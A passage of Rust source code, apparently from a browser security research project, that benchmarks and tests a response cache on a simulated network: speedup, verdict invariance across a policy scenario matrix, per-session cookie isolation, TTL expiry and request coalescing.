/// [`CACHE_WORLD_MAX_AGE_SECS`], and every origin carries `latency` simulated
/// service time. Logging in first pins the mediated `Cookie` header, so every
/// later `/index.php` fetch shares one cache key.
pub fn register_cache_world(
    fabric: &SharedNetwork,
    host: &str,
    cookie_name: &str,
    latency: Duration,
) {
    let page = format!(
        "<html><head><link rel=\"stylesheet\" href=\"http://css.{host}/site.css\"></head>\
         <body ring=\"1\" r=\"1\" w=\"1\" x=\"1\">\
         <img src=\"http://img0.{host}/a.png\"><img src=\"http://img1.{host}/b.png\">\
         </body></html>"
    );
    let domain = host.to_string();
    let cookie = cookie_name.to_string();
    fabric.register(&format!("http://{host}"), move |req: &Request| {
        let policy =
            CookiePolicy::new(cookie.clone(), Ring::new(1)).with_acl(Acl::uniform(Ring::new(1)));
        if req.url.path() == "/login.php" {
            Response::ok_html(
                "<html><body ring=\"1\" r=\"1\" w=\"1\" x=\"1\">logged in</body></html>",
            )
            .with_cookie(SetCookie {
                domain: Some(domain.clone()),
                ..SetCookie::new(cookie.clone(), "bench")
            })
            .with_cookie_policy(&policy)
        } else {
            Response::ok_html(page.clone())
                .with_max_age(CACHE_WORLD_MAX_AGE_SECS)
                .with_cookie_policy(&policy)
        }
    });
    fabric.set_latency(&format!("http://{host}"), latency);
    for sub in ["css", "img0", "img1"] {
        let origin = format!("http://{sub}.{host}");
        fabric.register(&origin, |req: &Request| {
            Response::ok_text(format!("asset {}", req.url.path()))
                .with_max_age(CACHE_WORLD_MAX_AGE_SECS)
        });
        fabric.set_latency(&origin, latency);
    }
}

/// The outcome of the repeat-navigation cache-speedup measurement.
#[derive(Debug, Clone, Copy, Default)]
pub struct CacheSpeedupReport {
    /// Timed repeat navigations per side (one untimed warm-fill pass precedes
    /// them on both sides).
    pub passes: usize,
    /// Mean repeat-navigation latency with the cache disabled, nanoseconds.
    pub cold_ns: f64,
    /// Mean repeat-navigation latency with the cache enabled, nanoseconds.
    pub warm_ns: f64,
    /// Persistent cache hits the enabled session consumed; must equal
    /// `passes × (1 document + `[`CACHE_WORLD_SUBRESOURCES`]`)`.
    pub hits: u64,
    /// Responses the enabled side's fabric admitted to the cache.
    pub stored: u64,
}

impl CacheSpeedupReport {
    /// Cold-over-warm speedup of the repeat navigation.
    #[must_use]
    pub fn speedup(&self) -> f64 {
        if self.warm_ns <= 0.0 {
            0.0
        } else {
            self.cold_ns / self.warm_ns
        }
    }

    /// The hits a fully-warm run must consume: every timed pass serves its
    /// document and each subresource from the cache.
    #[must_use]
    pub fn expected_hits(&self) -> u64 {
        self.passes as u64 * (1 + CACHE_WORLD_SUBRESOURCES)
    }
}

/// Loads `/index.php` `passes` times on two identically-built fabrics with
/// `latency` per-origin service time — response cache off vs on — timing only
/// the repeat navigations after one untimed warm-fill pass. On the enabled
/// side the document and all three subresources come out of the shared cache,
/// so a warm pass never pays origin latency.
///
/// # Panics
///
/// Panics if a page load fails.
#[must_use]
pub fn run_cache_speedup(latency: Duration, passes: usize) -> CacheSpeedupReport {
    let run = |enabled: bool| -> (f64, u64, u64) {
        let fabric = Arc::new(SharedNetwork::new());
        register_cache_world(&fabric, "shop.example", "sid", latency);
        let engine = engine_for_mode(PolicyMode::Escudo);
        let jar = Arc::new(SharedCookieJar::new());
        let mut browser = Browser::with_network(engine, jar, Arc::clone(&fabric));
        browser.set_response_cache_enabled(enabled);
        browser
            .navigate("http://shop.example/login.php")
            .expect("login page load");
        browser
            .navigate("http://shop.example/index.php")
            .expect("warm-fill page load");
        let mut total_ns = 0u128;
        for _ in 0..passes {
            let start = Instant::now();
            browser
                .navigate("http://shop.example/index.php")
                .expect("repeat page load");
            total_ns += start.elapsed().as_nanos();
        }
        (
            total_ns as f64 / passes.max(1) as f64,
            browser.cache_hits(),
            fabric.cache_stored(),
        )
    };

    let (cold_ns, _, _) = run(false);
    let (warm_ns, hits, stored) = run(true);
    CacheSpeedupReport {
        passes,
        cold_ns,
        warm_ns,
        hits,
        stored,
    }
}

/// The outcome of the cache-on-vs-off scenario-matrix oracle run.
#[derive(Debug, Clone)]
pub struct CacheMatrixOracleReport {
    /// The matrix replayed with every session's response cache enabled.
    pub cached: MatrixReport,
    /// The same registry replayed with the cache left off.
    pub plain: MatrixReport,
    /// Session fabrics the chaos hook observed on the cached side.
    pub sessions: usize,
    /// Persistent cache hits consumed across all cached-side sessions.
    pub cache_hits: u64,
    /// Responses admitted to the cache across all cached-side sessions.
    pub cache_stored: u64,
    /// Duplicate plan slots coalesced across all cached-side sessions.
    pub cache_coalesced: u64,
}

impl CacheMatrixOracleReport {
    /// Matrix cells whose outcome differs between the two sides — scenario,
    /// case, mode, both verdicts **and** the mediation check/denial counts
    /// compared structurally. Must be 0: the cache key is the mediation plan
    /// and mediation always executes, so caching may never move a verdict or
    /// a counter.
    #[must_use]
    pub fn outcome_mismatches(&self) -> usize {
        self.cached
            .outcomes
            .iter()
            .zip(&self.plain.outcomes)
            .filter(|(a, b)| a != b)
            .count()
            + self
                .cached
                .outcomes
                .len()
                .abs_diff(self.plain.outcomes.len())
    }

    /// Total reference-monitor checks across both modes on one side.
    #[must_use]
    pub fn total_checks(report: &MatrixReport) -> u64 {
        report.total_checks(PolicyMode::Escudo) + report.total_checks(PolicyMode::SameOriginOnly)
    }

    /// Total reference-monitor denials across both modes on one side.
    #[must_use]
    pub fn total_denials(report: &MatrixReport) -> u64 {
        report.total_denials(PolicyMode::Escudo) + report.total_denials(PolicyMode::SameOriginOnly)
    }
}

/// Replays the full scenario registry twice — once with a chaos hook enabling
/// every staged session's response cache, once untouched — and pairs the two
/// matrices for cell-by-cell comparison. The cached side's fabrics are
/// collected so the run can also report how much the cache actually did.
#[must_use]
pub fn run_cache_matrix_oracle() -> CacheMatrixOracleReport {
    let fabrics: Arc<Mutex<Vec<Arc<SharedNetwork>>>> = Arc::new(Mutex::new(Vec::new()));
    let sink = Arc::clone(&fabrics);
    let cached = {
        let _guard = install_chaos_hook(Arc::new(move |browser: &mut Browser| {
            browser.set_response_cache_enabled(true);
            sink.lock()
                .expect("cache fabric sink lock")
                .push(Arc::clone(browser.fabric()));
        }));
        MatrixReport::run(&registry())
    };
    let plain = MatrixReport::run(&registry());
    let fabrics = fabrics.lock().expect("cache fabric sink lock");
    CacheMatrixOracleReport {
        cached,
        plain,
        sessions: fabrics.len(),
        cache_hits: fabrics.iter().map(|f| f.cache_hits()).sum(),
        cache_stored: fabrics.iter().map(|f| f.cache_stored()).sum(),
        cache_coalesced: fabrics.iter().map(|f| f.cache_coalesced()).sum(),
    }
}

/// The outcome of the shared-fabric cookie-header isolation run.
#[derive(Debug, Clone, Copy, Default)]
pub struct CacheIsolationReport {
    /// Concurrent cache-enabled sessions (= OS threads).
    pub sessions: usize,
    /// Cacheable-page navigations per session.
    pub rounds: usize,
    /// Page loads whose echoed `Cookie` header was not the session's own —
    /// the witness of a cache entry crossing cookie headers. Must be 0.
    pub violations: usize,
    /// Persistent cache hits consumed across all sessions (each necessarily
    /// under the session's own header).
    pub cache_hits: u64,
    /// Entries discarded fail-closed because the consuming request's mediated
    /// header differed from the stored plan.
    pub stale_discards: u64,
}

/// Runs `threads` cache-enabled sessions concurrently over **one** shared
/// fabric and one cacheable URL, each session logged in with its own value of
/// the shared session cookie (so each mediates a distinct `Cookie` header).
/// The page body echoes the header the origin received; after every load each
/// session asserts the echo is its own. Because a lookup serves an entry only
/// under the exact stored header, contention may discard entries (counted as
/// `stale_discards`) but can never serve one across sessions.
///
/// # Panics
///
/// Panics if any session thread fails a page load.
#[must_use]
pub fn run_cache_isolation(threads: usize, rounds: usize) -> CacheIsolationReport {
    let fabric = Arc::new(SharedNetwork::new());
    let engine: Arc<dyn escudo_core::PolicyEngine> = Arc::new(escudo_core::EscudoEngine::new());
    let host = "portal.example";
    let policy = CookiePolicy::new("sid", Ring::new(1)).with_acl(Acl::uniform(Ring::new(1)));
    {
        let policy = policy.clone();
        fabric.register(&format!("http://{host}"), move |req: &Request| {
            if req.url.path() == "/login.php" {
                let user = req.param("user").unwrap_or_default();
                Response::ok_html(
                    "<html><body ring=\"1\" r=\"1\" w=\"1\" x=\"1\">logged in</body></html>",
                )
                .with_cookie(SetCookie::new("sid", user))
                .with_cookie_policy(&policy)
            } else {
                let echo = req.headers.get("Cookie").unwrap_or("").to_string();
                Response::ok_html(format!(
                    "<html><body ring=\"1\" r=\"1\" w=\"1\" x=\"1\">\
                     <p id=\"who\">{echo}</p></body></html>"
                ))
                .with_max_age(CACHE_WORLD_MAX_AGE_SECS)
                .with_cookie_policy(&policy)
            }
        });
    }

    let (violations, cache_hits) = thread::scope(|scope| {
        let handles: Vec<_> = (0..threads)
            .map(|t| {
                let fabric = Arc::clone(&fabric);
                let engine = Arc::clone(&engine);
                scope.spawn(move || {
                    // Each session owns its jar: same fabric, different user.
                    let jar = Arc::new(SharedCookieJar::new());
                    let mut browser = Browser::with_network(engine, jar, fabric);
                    browser.set_response_cache_enabled(true);
                    browser
                        .navigate(&format!("http://{host}/login.php?user=u{t}"))
                        .expect("isolation login load");
                    let own = format!("sid=u{t}");
                    let mut violations = 0usize;
                    for _ in 0..rounds {
                        let page = browser
                            .navigate(&format!("http://{host}/page.php"))
                            .expect("isolation page load");
                        let echo = browser.page(page).text_of("who").unwrap_or_default();
                        if echo != own {
                            violations += 1;
                        }
                    }
                    (violations, browser.cache_hits())
                })
            })
            .collect();
        handles.into_iter().fold((0usize, 0u64), |acc, handle| {
            let (violations, hits) = handle.join().expect("isolation session thread");
            (acc.0 + violations, acc.1 + hits)
        })
    });

    CacheIsolationReport {
        sessions: threads,
        rounds,
        violations,
        cache_hits,
        stale_discards: fabric.prefetch_stale_discards(),
    }
}

/// The outcome of the manual-clock TTL walk.
#[derive(Debug, Clone, Copy, Default)]
pub struct CacheTtlReport {
    /// Store → fresh-hit → expire cycles walked.
    pub cycles: usize,
    /// Persistent hits; must equal `cycles` (one fresh lookup per cycle).
    pub hits: u64,
    /// Expired-at-lookup discards; must equal `cycles - 1` (each cycle's
    /// opening navigation finds the previous cycle's entry past its
    /// `max-age`; the final entry is never looked up again).
    pub expired: u64,
    /// Cache stores; must equal `cycles` (each cycle refills the entry).
    pub stored: u64,
}

/// Walks one `max-age=5` entry through `cycles` store → hit → expire rounds
/// on a hand-advanced [`ManualClock`]: navigate (miss + store), advance 4 s,
/// navigate (fresh hit), advance 2 s (now 6 s past the store — expired). No
/// wall time enters the freshness check, so every counter is exact.
///
/// # Panics
///
/// Panics if `cycles == 0` or a page load fails.
#[must_use]
pub fn run_cache_ttl_walk(cycles: usize) -> CacheTtlReport {
    assert!(cycles > 0, "a TTL walk needs at least one cycle");
    let fabric = Arc::new(SharedNetwork::new());
    let clock = Arc::new(ManualClock::new());
    fabric.set_clock(clock.clone());
    fabric.register("http://ttl.example", |_req: &Request| {
        Response::ok_html("<html><body ring=\"1\" r=\"1\" w=\"1\" x=\"1\">fresh</body></html>")
            .with_max_age(5)
    });
    let engine = engine_for_mode(PolicyMode::Escudo);
    let jar = Arc::new(SharedCookieJar::new());
    let mut browser = Browser::with_network(engine, jar, Arc::clone(&fabric));
    browser.set_response_cache_enabled(true);
    for _ in 0..cycles {
        browser
            .navigate("http://ttl.example/page.php")
            .expect("ttl refill load");
        clock.advance(Duration::from_secs(4));
        browser
            .navigate("http://ttl.example/page.php")
            .expect("ttl fresh-hit load");
        clock.advance(Duration::from_secs(2));
    }
    CacheTtlReport {
        cycles,
        hits: fabric.cache_hits(),
        expired: fabric.cache_expired(),
        stored: fabric.cache_stored(),
    }
}

/// The outcome of the single-flight coalescing run.
#[derive(Debug, Clone, Copy, Default)]
pub struct CacheSingleFlightReport {
    /// Identical `<img>` slots the page's plan carries.
    pub duplicates: usize,
    /// Page loads performed.
    pub loads: usize,
    /// Dispatches the duplicated origin actually served; must equal `loads`
    /// (one primary per batch — the asset is uncacheable, so nothing persists
    /// between loads).
    pub dispatches: u64,
    /// Duplicate plan slots served from the primary's response; must equal
    /// `loads × (duplicates - 1)`.
    pub coalesced: u64,
    /// Requests the fabric logged; must equal `loads × (1 + duplicates)` —
    /// every coalesced slot still logs under its own sequence number.
    pub logged: usize,
}

/// Loads a page whose plan repeats one **uncacheable** image URL `duplicates`
/// times, `loads` times over. Batch-level single-flight dispatches each batch's
/// duplicates once and fans the response out to the other slots — coalescing
/// is a property of the batch, not of storability — while every slot still
/// logs under its own pre-reserved sequence.
///
/// # Panics
///
/// Panics if `duplicates == 0` or a page load fails.
#[must_use]
pub fn run_cache_single_flight(duplicates: usize, loads: usize) -> CacheSingleFlightReport {
    assert!(
        duplicates > 0,
        "a single-flight run needs at least one slot"
    );
    let fabric = Arc::new(SharedNetwork::new());
    let imgs = "<img src=\"http://img.flock.example/dup.png\">".repeat(duplicates);
    let page = format!("<html><body ring=\"1\" r=\"1\" w=\"1\" x=\"1\">{imgs}</body></html>");
    fabric.register("http://flock.example", move |_req: &Request| {
        Response::ok_html(page.clone())
    });
    let dispatches = Arc::new(AtomicU64::new(0));
    {
        let dispatches = Arc::clone(&dispatches);
        fabric.register("http://img.flock.example", move |_req: &Request| {
            dispatches.fetch_add(1, Ordering::Relaxed);
            Response::ok_text("img")
        });
    }
    let engine = engine_for_mode(PolicyMode::Escudo);
    let jar = Arc::new(SharedCookieJar::new());
    let mut browser = Browser::with_network(engine, jar, Arc::clone(&fabric));
    browser.set_response_cache_enabled(true);
    for _ in 0..loads {
        browser
            .navigate("http://flock.example/index.php")
            .expect("single-flight page load");
    }
    CacheSingleFlightReport {
        duplicates,
        loads,
        dispatches: dispatches.load(Ordering::Relaxed),
        coalesced: fabric.cache_coalesced(),
        logged: fabric.log().len(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn warm_navigations_hit_on_document_and_subresources() {
        let report = run_cache_speedup(Duration::from_micros(200), 3);
        assert_eq!(report.passes, 3);
        assert_eq!(report.hits, report.expected_hits());
        assert_eq!(report.stored, 1 + CACHE_WORLD_SUBRESOURCES);
        assert!(
            report.speedup() > 1.0,
            "cached navigation must beat the cold one ({:.0}ns vs {:.0}ns)",
            report.warm_ns,
            report.cold_ns
        );
    }

    #[test]
    fn the_matrix_is_cache_invariant() {
        let report = run_cache_matrix_oracle();
        assert_eq!(report.cached.cells(), report.plain.cells());
        assert_eq!(report.outcome_mismatches(), 0);
        assert_eq!(report.cached.unexpected().len(), 0);
        assert_eq!(report.plain.unexpected().len(), 0);
        assert_eq!(
            CacheMatrixOracleReport::total_checks(&report.cached),
            CacheMatrixOracleReport::total_checks(&report.plain),
        );
        assert_eq!(
            CacheMatrixOracleReport::total_denials(&report.cached),
            CacheMatrixOracleReport::total_denials(&report.plain),
        );
        assert!(report.sessions > 0, "the chaos hook must observe sessions");
    }

    #[test]
    fn sessions_never_see_a_foreign_cookie_echo() {
        let report = run_cache_isolation(3, 4);
        assert_eq!(report.sessions, 3);
        assert_eq!(report.violations, 0);
    }

    #[test]
    fn a_single_session_hits_its_own_entry() {
        let report = run_cache_isolation(1, 4);
        assert_eq!(report.violations, 0);
        assert_eq!(report.cache_hits, 3, "rounds after the first must hit");
        assert_eq!(report.stale_discards, 0);
    }

    #[test]
    fn the_ttl_walk_counts_are_exact() {
        let report = run_cache_ttl_walk(3);
        assert_eq!(report.hits, 3);
        assert_eq!(report.expired, 2);
        assert_eq!(report.stored, 3);
    }

    #[test]
    fn duplicate_slots_dispatch_once_but_log_each() {
        let report = run_cache_single_flight(4, 2);
        assert_eq!(report.dispatches, 2, "one origin fetch per load");
        assert_eq!(report.coalesced, 6);
        assert_eq!(report.logged, 2 * (1 + 4));
    }
}
